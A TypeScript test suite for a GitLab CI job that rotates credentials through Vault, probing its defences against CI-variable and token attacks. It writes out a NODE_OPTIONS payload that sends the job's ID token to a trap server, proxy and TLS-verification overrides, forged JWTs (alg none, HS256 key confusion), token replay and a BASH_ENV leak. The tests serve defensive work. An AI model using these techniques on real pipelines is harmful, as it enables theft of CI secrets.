import { readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { parse } from "yaml";
import { baoRequest } from "../../lab/openbao";
import { run, waitFor } from "../../lab/process";
import { rotationProject } from "../../lab/world";
import { idToken, logIn } from "../support/idTokens";
import type { TokenWish, VaultAuth } from "../support/idTokens";
import { devConfig, startTestLab } from "../support/lab";
import type { TestLab } from "../support/lab";
import { startRecorder, startTrap } from "../support/recorder";
import type { Recorder } from "../support/recorder";
import type { TestStack } from "../support/stack";

const root = join(__dirname, "..", "..");
const outsiders = { mallory: "glpat-mallory-0123456789", dave: "glpat-dave-0123456789" };
type Who = keyof typeof outsiders | "bot";

let lab: TestLab;
let stack: TestStack;
let schedule: number;
let vault: Recorder;
let trap: Recorder;
let roleBefore: unknown;

/** A call of GitLab's API by one of the project's members; `path` below the project. */
async function gitlab<T = Record<string, unknown>>(
  who: Who,
  method: string,
  path: string,
  body?: object,
): Promise<{ status: number; body: T }> {
  const token = who === "bot" ? lab.world.secrets.gitlabToken : outsiders[who];
  const project = encodeURIComponent(rotationProject);
  const answer = await fetch(`${lab.world.gitlab.url}/api/v4/projects/${project}${path}`, {
    method,
    headers: { "private-token": token, "content-type": "application/json" },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await answer.text();
  return { status: answer.status, body: (text === "" ? {} : JSON.parse(text)) as T };
}

async function pipelineFile(): Promise<string> {
  const path = "/repository/files/.gitlab-ci.yml?ref=main";
  const { body } = await gitlab<{ content: string }>("bot", "GET", path);
  return Buffer.from(body.content, "base64").toString();
}

/** The pipeline that begins after pipeline `before`, once it has ended. */
async function nextPipeline(before: number): Promise<{ source: string; trace: string }> {
  return waitFor("a pipeline", 20_000, async () => {
    const { body } = await gitlab<{ id: number; status: string; source: string }[]>(
      "bot",
      "GET",
      "/pipelines",
    );
    const last = body[0];
    if (last === undefined || last.id <= before) return undefined;
    if (!["success", "failed"].includes(last.status)) return undefined;
    const jobs = await gitlab<{ id: number }[]>("bot", "GET", `/pipelines/${last.id}/jobs`);
    const trace = await (await lab.gitlab("GET", `jobs/${jobs.body[0]?.id}/trace`)).text();
    return { source: last.source, trace };
  });
}

async function lastPipelineId(): Promise<number> {
  const { body } = await gitlab<{ id: number }[]>("bot", "GET", "/pipelines");
  return body[0]?.id ?? 0;
}

/** Vault's version of the scanner's token: it moves when a job has written it. */
async function tokenVersion(): Promise<number> {
  const { body } = await lab.asRoot("GET", "apisec/data/scanner/token");
  return (body as { data: { metadata: { version: number } } }).data.metadata.version;
}

/** What Vault's login was asked and answered since `clear`. */
function logins() {
  return vault.exchanges
    .filter(({ path }) => path === "/v1/auth/gitlab/login")
    .map(({ body, answer }) => ({
      jwt: (JSON.parse(body) as { jwt: string }).jwt,
      auth: (JSON.parse(answer) as { auth?: VaultAuth }).auth,
    }));
}

const claimsOf = (jwt: string) =>
  JSON.parse(Buffer.from(jwt.split(".")[1] ?? "", "base64url").toString()) as Record<
    string,
    unknown
  >;

/** A token of the same second as the stored one would be no later, and not be stored. */
const nextSecond = () => new Promise((resolve) => setTimeout(resolve, 1_100));

async function rotation() {
  await nextSecond();
  vault.exchanges.length = trap.exchanges.length = 0;
  const before = await tokenVersion();
  const result = await lab.runSchedule(schedule);
  return { ...result, rotated: (await tokenVersion()) - before };
}

beforeAll(async () => {
  lab = await startTestLab();
  [vault, trap] = await Promise.all([startRecorder(lab.world.vault.address), startTrap()]);
  lab.env["VAULT_ADDR"] = vault.url;
  stack = await lab.stack("dev", devConfig(lab.world), lab.world.secrets.firstPasswords);
  await stack.up();
  schedule = Number((await stack.outputs())["scheduleId"]);
  // GitLab's default: the job has to be safe where nobody followed the advice to allow no one.
  const set = await gitlab("bot", "PUT", "", {
    ci_pipeline_variables_minimum_override_role: "developer",
  });
  expect(set.status).toBe(200);
  roleBefore = (await lab.asRoot("GET", "auth/gitlab/role/apisec-dev-rotator")).body;
  for (const [username, token] of Object.entries(outsiders)) {
    await fetch(`${lab.world.gitlab.url}/-/lab/users`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ username, tokens: [{ token }] }),
    });
    const users = await fetch(`${lab.world.gitlab.url}/api/v4/users?username=${username}`, {
      headers: { "private-token": token },
    });
    const [user] = (await users.json()) as { id: number }[];
    const access_level = username === "mallory" ? 40 : 30;
    const added = await gitlab("bot", "POST", "/members", { user_id: user?.id, access_level });
    expect(added.status).toBe(201);
  }
}, 240_000);

afterAll(async () => {
  await Promise.all([vault?.close(), trap?.close()]);
  await lab?.stop();
});

describe("the login at Vault", () => {
  async function attempt(wish: TokenWish) {
    return logIn(lab, "dev", await idToken(lab, "dev", wish));
  }

  test("accepts the token of the scheduled job", async () => {
    const { status, auth } = await attempt({});
    expect(status).toBe(200);
    expect(auth?.policies).toEqual(["apisec-dev-rotator"]);
    expect(auth?.lease_duration).toBeLessThanOrEqual(900);
  });

  const bound: Record<string, unknown[]> = {
    project_id: ["2", 1, ["2", "3"], true],
    ref: ["mainline", "refs/heads/main", "MAIN", true],
    ref_type: ["tag", true],
    ref_protected: ["false", true, 1],
    pipeline_source: [
      "push",
      "web",
      "api",
      "merge_request_event",
      "trigger",
      "parent_pipeline",
      true,
    ],
    user_id: ["2", 1, true],
    ci_config_ref_uri: [".gitlab-ci.yml", true],
    environment: ["apisec/qa", "apisec", "apisec/dev/x", true],
  };
  const cases = Object.entries(bound).flatMap(([claim, values]) =>
    [null, ...values].map((value) => ({ claim, value })),
  );

  test.each(cases)("refuses $claim = $value", async ({ claim, value }) => {
    const { status, problem } = await attempt({ claims: { [claim]: value } });
    expect(status).toBe(400);
    expect(problem).toContain(claim);
  });

  test("is bound to no other claims than those tried here", async () => {
    const { data } = roleBefore as { data: { bound_claims: object; bound_audiences: string[] } };
    expect(Object.keys(data.bound_claims).sort()).toEqual(Object.keys(bound).sort());
    expect(data.bound_audiences).toEqual([`${vault.url}/apisec/dev`]);
  });

  const aud = () => `${vault.url}/apisec/dev`;
  const ofFile = async (from: string, to: string) => {
    const right = String(claimsOf(await idToken(lab, "dev"))["ci_config_ref_uri"]);
    expect(right).toContain(from);
    return { claims: { ci_config_ref_uri: right.replace(from, to) } };
  };
  test.each<[string, () => TokenWish | Promise<TokenWish>]>([
    ["another pipeline file", () => ofFile(".gitlab-ci.yml", "other.yml")],
    ["another branch's pipeline file", () => ofFile("heads/main", "heads/mainline")],
    ["another project's pipeline file", () => ofFile("apisec-rotation", "apisec-rotation-2")],
    ["another issuer", () => ({ claims: { iss: "https://gitlab.example.com" } })],
    ["no issuer", () => ({ claims: { iss: null } })],
    ["another audience", () => ({ aud: "https://vault.example.com" })],
    ["another stack's audience", () => ({ aud: `${vault.url}/apisec/qa` })],
    ["its audience with a slash more", () => ({ aud: `${aud()}/` })],
    ["a list of other audiences", () => ({ aud: ["https://a.example", "https://b.example"] })],
    ["no audience", () => ({ claims: { aud: null } })],
    ["a key that GitLab did not publish", () => ({ signature: "unknown-key" })],
    ["another key under the right key's id", () => ({ signature: "wrong-key" })],
    ["no signature", () => ({ signature: "none" })],
    ["an HMAC with the public key as secret", () => ({ signature: "hs256" })],
    ["a token that ended more than a minute ago", () => ({ shift: -900 - 65 })],
    ["a token that begins more than a minute from now", () => ({ shift: 70 })],
    [
      "a merge request from a fork",
      () => ({ project: "mallory/fork", user: "mallory", source: "merge_request_event" }),
    ],
    ["a fork's own schedule", () => ({ project: "mallory/fork", user: "mallory" })],
    ["another user's schedule", () => ({ user: "mallory" })],
    ["a job without the environment", () => ({ environment: undefined })],
  ])("refuses %s", async (name, wish) => {
    if (name.includes("fork")) await fork();
    const { status, auth, problem } = await attempt(await wish());
    expect({ status, auth }).toEqual({ status: 400, auth: undefined });
    expect(problem).not.toBe("");
  });

  async function fork() {
    const post = (path: string, body: object) =>
      fetch(`${lab.world.gitlab.url}/api/v4/projects${path}`, {
        method: "POST",
        headers: { "private-token": outsiders.mallory, "content-type": "application/json" },
        body: JSON.stringify(body),
      });
    await post("", { name: "fork", path: "fork" });
    const file = { branch: "main", content: "x", commit_message: "x" };
    await post("/mallory%2Ffork/repository/files/README.md", file);
  }

  test("refuses a token whose claims were changed after it was signed", async () => {
    const [head, , signature] = (await idToken(lab, "dev", { user: "mallory" })).split(".");
    const [, claims] = (await idToken(lab, "dev")).split(".");
    const { status, problem } = await logIn(lab, "dev", [head, claims, signature].join("."));
    expect(status).toBe(400);
    expect(problem).toMatch(/signature/);
  });

  test("allows a minute for clocks, and an audience among others", async () => {
    expect((await attempt({ shift: -900 - 50 })).status).toBe(200);
    expect((await attempt({ shift: 50 })).status).toBe(200);
    expect((await attempt({ aud: ["https://a.example", aud()] })).status).toBe(200);
  });
});

describe("the real job", () => {
  test("its ID token lives as long as its timeout allows, and can be replayed so long", async () => {
    const { status, rotated } = await rotation();
    expect({ status, rotated }).toEqual({ status: "success", rotated: 1 });
    const [login] = logins();
    const { rotate } = parse(await pipelineFile()) as { rotate: { timeout: string } };
    const { iat, exp } = claimsOf(login?.jwt ?? "") as { iat: number; exp: number };
    expect(rotate.timeout).toBe("15 minutes");
    expect(exp - iat).toBe(15 * 60);
    // Nothing in the method stops this before `exp` and a minute.
    const replayed = await logIn(lab, "dev", login?.jwt ?? "");
    expect(replayed.status).toBe(200);
  });

  test("its Vault token ends with it, and by itself after 15 minutes at the latest", async () => {
    const auth = logins()[0]?.auth;
    const lookup = (token = "") => lab.asRoot("POST", "auth/token/lookup", { token });
    expect((await lookup(auth?.client_token)).status).toBe(403);
    const { auth: fresh } = await logIn(lab, "dev", await idToken(lab, "dev"));
    const { data } = (await lookup(fresh?.client_token)).body as {
      data: { ttl: number; explicit_max_ttl: number; type: string; orphan: boolean };
    };
    expect(data).toMatchObject({ explicit_max_ttl: 900, type: "service" });
    expect(data.ttl).toBeLessThanOrEqual(900);
    const again = await baoRequest(
      lab.world.vault.address,
      fresh?.client_token,
      "POST",
      "auth/token/renew-self",
      {},
    );
    expect(again.status).toBe(403);
  });

  test("up sets no schedule variable", async () => {
    const { body } = await gitlab<{ variables: unknown[] }>(
      "bot",
      "GET",
      `/pipeline_schedules/${schedule}`,
    );
    expect(body.variables).toEqual([]);
  });
});

/** Variables that would lead the job astray, all to the attacker's server. */
function misleading(): Record<string, string> {
  const steal = `import("node:http").then((h)=>h.get("${trap.url}/stolen/"+process.env.VAULT_ID_TOKEN))`;
  return {
    VAULT_ADDR: trap.url,
    VAULT_SERVER_URL: trap.url,
    VAULT_NAMESPACE: "theirs",
    VAULT_AUTH_PATH: "theirs",
    VAULT_AUTH_ROLE: "theirs",
    VAULT_TOKEN: "hvs.theirs",
    APISEC_MOUNT: "theirs",
    APISEC_PATHS: JSON.stringify({ login: "/theirs", probe: "/theirs" }),
    NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(steal)}`,
    NODE_DEBUG: "http,net,tls",
    HTTP_PROXY: trap.url,
    http_proxy: trap.url,
    // Other certificates, another list, another rule for what is a good token.
    ...{ NODE_USE_SYSTEM_CA: "1", SSL_CERT_FILE: "/theirs", SSL_CERT_DIR: "/theirs" },
    ...{ NODE_TLS_REJECT_UNAUTHORIZED: "0", VAULT_SKIP_VERIFY: "true", OPENSSL_CONF: "/theirs" },
    ...{ CI_NODE_INDEX: "2", CI_NODE_TOTAL: "2", APISEC_ACCOUNTS_FILE: "/theirs" },
    ...{ APISEC_MIN_LIFETIME: "1s", APISEC_DEADLINE: "0s", APISEC_TOKEN_ENDS: "theirs" },
  };
}

/** Sets CI variables as a maintainer, over those of the stack; returns how to undo it. */
async function setVariables(values: Record<string, string>): Promise<() => Promise<void>> {
  const undo: (() => Promise<unknown>)[] = [];
  const scope = encodeURIComponent("apisec/dev");
  for (const [key, value] of Object.entries(values)) {
    const path = `/variables/${key}?filter[environment_scope]=${scope}`;
    const known = await gitlab<{ value: string }>("mallory", "GET", path);
    if (known.status === 200) {
      expect((await gitlab("mallory", "PUT", path, { value })).status).toBe(200);
      undo.push(() => gitlab("mallory", "PUT", path, { value: known.body.value }));
    } else {
      const more = { key, value, environment_scope: "apisec/dev", raw: true };
      expect((await gitlab("mallory", "POST", "/variables", more)).status).toBe(201);
      undo.push(() => gitlab("mallory", "DELETE", path));
    }
  }
  return async () => {
    for (const back of undo) await back();
  };
}

const refusal = /Vault refuses the login with role "apisec-dev-rotator".*does not match/;

describe("through GitLab", () => {
  test("project variables lead the job nowhere else", async () => {
    const undo = await setVariables(misleading());
    const { status, trace, rotated } = await rotation();
    await undo();
    expect(trap.exchanges).toEqual([]);
    expect(trace).not.toContain("theirs");
    expect({ status, rotated }).toEqual({ status: "success", rotated: 1 });
  });

  test("neither do variables of the schedule itself, which its owner alone can set", async () => {
    const path = `/pipeline_schedules/${schedule}/variables`;
    for (const [key, value] of Object.entries(misleading())) {
      expect((await gitlab("mallory", "POST", path, { key, value })).status).toBe(403);
      expect((await gitlab("bot", "POST", path, { key, value })).status).toBe(201);
    }
    const { status, rotated } = await rotation();
    for (const key of Object.keys(misleading())) await gitlab("bot", "DELETE", `${path}/${key}`);
    expect(trap.exchanges).toEqual([]);
    expect({ status, rotated }).toEqual({ status: "success", rotated: 1 });
  });

  test("APISEC_URL at another host: the account fails, nothing is sent to either", async () => {
    const undo = await setVariables({ APISEC_URL: trap.url });
    await lab.apisec("DELETE", "requests");
    const { status, trace, rotated } = await rotation();
    await undo();
    expect(trace).toContain("scanner/password belongs to");
    expect({ status, rotated }).toEqual({ status: "failed", rotated: 0 });
    expect(trap.exchanges).toEqual([]);
    expect(await lab.apisec("GET", "requests")).toMatchObject({ requests: [] });
  });

  test("more accounts in APISEC_ACCOUNTS: Vault denies those that are not published", async () => {
    const undo = await setVariables({ APISEC_ACCOUNTS: "admin,scanner" });
    const { status, trace, rotated } = await rotation();
    await undo();
    expect(trace).toMatch(/^admin {2}failed {2}Vault denies GET apisec\/data\/admin\//m);
    expect({ status, rotated }).toEqual({ status: "failed", rotated: 1 });
  });

  test("CI_DEBUG_TRACE: the job refuses to run", async () => {
    const undo = await setVariables({ CI_DEBUG_TRACE: "true" });
    const { status, trace, rotated } = await rotation();
    await undo();
    expect(trace).toContain("CI_DEBUG_TRACE: found it switched on");
    expect({ status, rotated }).toEqual({ status: "failed", rotated: 0 });
    expect(logins()).toEqual([]);
  });

  test("another user's schedule is refused, and gives nothing away", async () => {
    const { body } = await gitlab<{ id: number }>("mallory", "POST", "/pipeline_schedules", {
      ...{ description: "mine", ref: "refs/heads/main", cron: "0 0 1 1 *" },
    });
    for (const [key, value] of Object.entries(misleading())) {
      const path = `/pipeline_schedules/${body.id}/variables`;
      expect((await gitlab("mallory", "POST", path, { key, value })).status).toBe(201);
    }
    const before = await tokenVersion();
    const { status, trace } = await lab.runSchedule(body.id);
    await gitlab("mallory", "DELETE", `/pipeline_schedules/${body.id}`);
    expect(status).toBe("failed");
    expect(trace).toMatch(refusal);
    expect(trace).toMatch(/"user_id" does not match/);
    expect(trap.exchanges).toEqual([]);
    expect(await tokenVersion()).toBe(before);
  });

  test("who plays the schedule is refused: it runs as him", async () => {
    const before = await lastPipelineId();
    const played = await gitlab("mallory", "POST", `/pipeline_schedules/${schedule}/play`);
    expect(played.status).toBe(201);
    const { source, trace } = await nextPipeline(before);
    expect(source).toBe("schedule");
    expect(trace).toMatch(/"user_id" does not match/);
  });

  test("a schedule of the right owner on a tag named like the branch is refused", async () => {
    const tag = await gitlab("bot", "POST", "/repository/tags", { tag_name: "main", ref: "main" });
    expect(tag.status).toBe(201);
    const { body } = await gitlab<{ id: number }>("bot", "POST", "/pipeline_schedules", {
      ...{ description: "tag", ref: "refs/tags/main", cron: "0 0 1 1 *" },
    });
    // Protected variables do not reach a tag that is not protected: the job gets as far as this one leads it.
    const accounts = { key: "APISEC_ACCOUNTS", value: "scanner" };
    expect((await gitlab("bot", "POST", "/variables", accounts)).status).toBe(201);
    const onTag = await lab.runSchedule(body.id);
    const onBranch = await rotation();
    await gitlab("bot", "DELETE", `/pipeline_schedules/${body.id}`);
    await gitlab("bot", "DELETE", "/repository/tags/main");
    await gitlab("bot", "DELETE", "/variables/APISEC_ACCOUNTS?filter[environment_scope]=*");
    expect(onTag.status).toBe("failed");
    expect(onTag.trace).toMatch(/"(ref_type|ref_protected|ci_config_ref_uri)" does not match/);
    expect(onTag.trace).toContain('pipeline_source="schedule"');
    expect(onTag.trace).toContain('ref_type="tag"');
    // The branch's own schedule names the full ref and is not mistaken.
    expect(onBranch).toMatchObject({ status: "success", rotated: 1 });
  });

  test("a project that names another pipeline file is refused", async () => {
    const file = `${(await pipelineFile()).replaceAll("node rotate.mjs", "node rotate.mjs || true")}`;
    const added = await gitlab("mallory", "POST", "/repository/files/other.yml", {
      ...{ branch: "main", content: file, commit_message: "Other [skip ci]" },
    });
    expect(added.status).toBe(201);
    expect((await gitlab("mallory", "PUT", "", { ci_config_path: "other.yml" })).status).toBe(200);
    const { trace, rotated } = await rotation();
    await gitlab("mallory", "PUT", "", { ci_config_path: null });
    expect(trace).toMatch(/"ci_config_ref_uri" does not match/);
    expect(rotated).toBe(0);
  });

  test("no pipeline begins on a push or by the API", async () => {
    const before = await lastPipelineId();
    const asked = await gitlab("bot", "POST", "/pipeline", { ref: "main" });
    expect(asked.status).toBe(400);
    const pushed = await gitlab("bot", "POST", "/repository/files/pushed.txt", {
      ...{ branch: "main", content: "x", commit_message: "A push" },
    });
    expect(pushed.status).toBe(201);
    await nextSecond();
    expect(await lastPipelineId()).toBe(before);
  });

  test("a developer can change nothing of the job; his branch gets neither variables nor a login", async () => {
    const schedules = { description: "x", ref: "refs/heads/main", cron: "0 0 1 1 *" };
    const variable = { key: "VAULT_ADDR", value: trap.url };
    const evil = { branch: "main", content: "x", commit_message: "x" };
    for (const [method, path, body] of [
      ["POST", "/pipeline_schedules", schedules],
      ["POST", `/pipeline_schedules/${schedule}/play`],
      ["POST", `/pipeline_schedules/${schedule}/take_ownership`],
      ["POST", "/variables", variable],
      ["PUT", "/repository/files/rotate.mjs", evil],
      ["PUT", "", { ci_config_path: "other.yml" }],
    ] as [string, string, object?][]) {
      const { status } = await gitlab("dave", method, path, body);
      expect({ path, refused: status === 400 || status === 403 }).toEqual({ path, refused: true });
    }
    const file = (await pipelineFile())
      .replace(/workflow:\n(?: .*\n)+/, "")
      .replace(/ {2}rules:\n(?: {4}.*\n)+/, "")
      .replace("node rotate.mjs", "APISEC_ACCOUNTS=${APISEC_ACCOUNTS:-scanner} node rotate.mjs");
    const before = await lastPipelineId();
    const pushed = await gitlab("dave", "POST", "/repository/commits", {
      ...{ branch: "evil", start_branch: "main", commit_message: "x" },
      actions: [{ action: "update", file_path: ".gitlab-ci.yml", content: file }],
    });
    expect(pushed.status).toBe(201);
    const { source, trace } = await nextPipeline(before);
    expect(source).toBe("push");
    expect(trace).toMatch(refusal);
    for (const claim of ['ref="evil"', 'ref_protected="false"', 'environment="apisec/dev"']) {
      expect(trace).toContain(claim);
    }
  });

  test("who takes the schedule over stops it; the next up takes it back", async () => {
    const path = `/pipeline_schedules/${schedule}`;
    const taken = await gitlab("mallory", "POST", `${path}/take_ownership`);
    expect(taken.status).toBe(201);
    const { trace, rotated } = await rotation();
    expect(trace).toMatch(/"user_id" does not match/);
    expect(rotated).toBe(0);
    await stack.up({ refresh: true });
    expect(await rotation()).toMatchObject({ status: "success", rotated: 1 });
    const { body } = await lab.asRoot("GET", "auth/gitlab/role/apisec-dev-rotator");
    expect((body as { data: object }).data).toEqual((roleBefore as { data: object }).data);
  });
});

describe("what remains to whoever may edit CI variables", () => {
  /** A pipeline file of one's own, or an older one: its script does not say where to log in. */
  async function bareJob(variables: Record<string, string>) {
    return run(process.execPath, [join(root, "dist", "rotate.mjs")], {
      cwd: lab.env["HOME"] ?? "",
      env: {
        VAULT_AUTH_PATH: "gitlab",
        VAULT_AUTH_ROLE: "apisec-dev-rotator",
        VAULT_ID_TOKEN: await idToken(lab, "dev"),
        APISEC_MOUNT: "apisec",
        APISEC_ACCOUNTS: "scanner",
        APISEC_REPORT: "/dev/null",
        ...variables,
      },
    });
  }

  test("without the script's own settings VAULT_ADDR gets the ID token, and that logs in", async () => {
    trap.exchanges.length = 0;
    const { stderr } = await bareJob({ VAULT_ADDR: trap.url });
    const stolen = trap.exchanges.map(({ body }) => /"jwt":"([^"]+)"/.exec(body)?.[1]);
    const { status, auth } = await logIn(lab, "dev", stolen.find(Boolean) ?? "");
    expect(status).toBe(200);
    const { status: read } = await baoRequest(
      lab.world.vault.address,
      auth?.client_token,
      "GET",
      "apisec/data/scanner/password",
    );
    expect(read).toBe(200);
    expect(stderr).not.toContain(stolen.find(Boolean));
  });

  test("without them APISEC_PATHS sends the password to another path of the same host, never to another host", async () => {
    const seen = async () =>
      (await lab.apisec("GET", "requests")) as { requests: { path: string }[] };
    await lab.apisec("DELETE", "requests");
    const paths = (login: string) => JSON.stringify({ login, probe: "/ping" });
    const { code } = await bareJob({ VAULT_ADDR: vault.url, APISEC_PATHS: paths("/theirs") });
    expect(code).toBe(1);
    expect((await seen()).requests.map(({ path }) => path)).toEqual(["/theirs"]);
    for (const login of [`//${new URL(trap.url).host}/`, `@${new URL(trap.url).host}/`, trap.url]) {
      const refused = await bareJob({ VAULT_ADDR: vault.url, APISEC_PATHS: paths(login) });
      expect(refused.code).toBe(2);
    }
  });

  /** The script line of the delivered file, run as GitLab's runner runs it in an image with this shell. */
  async function scriptIn(shell: string, variables: Record<string, string>) {
    const { rotate } = parse(await pipelineFile()) as { rotate: { script: string[] } };
    const work = lab.env["HOME"] ?? "";
    writeFileSync(join(work, "rotate.mjs"), readFileSync(join(root, "dist", "rotate.mjs")));
    // Not a `node` that is a shell script of a version manager.
    const PATH = `${dirname(process.execPath)}:${process.env["PATH"]}`;
    // Bash takes a socket as its input for a login from afar, and reads other files then.
    const args = ["-c", 'exec "$0" -c "$1" < /dev/null', shell, rotate.script.join("\n")];
    return run("sh", args, {
      cwd: work,
      env: {
        ...{
          PATH,
          HOME: work,
          VAULT_ID_TOKEN: await idToken(lab, "dev"),
          APISEC_ACCOUNTS: "scanner",
        },
        ...variables,
      },
    });
  }

  test("a file variable BASH_ENV is run by bash before the script, and by no other shell", async () => {
    const file = join(lab.env["HOME"] ?? "", "bash-env");
    writeFileSync(file, 'echo "got $VAULT_ID_TOKEN"');
    await nextSecond();
    const inBash = await scriptIn("bash", { BASH_ENV: file, ENV: file });
    expect(inBash).toMatchObject({ code: 0, stdout: expect.stringMatching(/^got ey/) as string });
    const inSh = await scriptIn("sh", { BASH_ENV: file, ENV: file });
    expect(inSh.stdout).not.toContain("got");
    expect(inSh).toMatchObject({ code: 0 });
  });
});
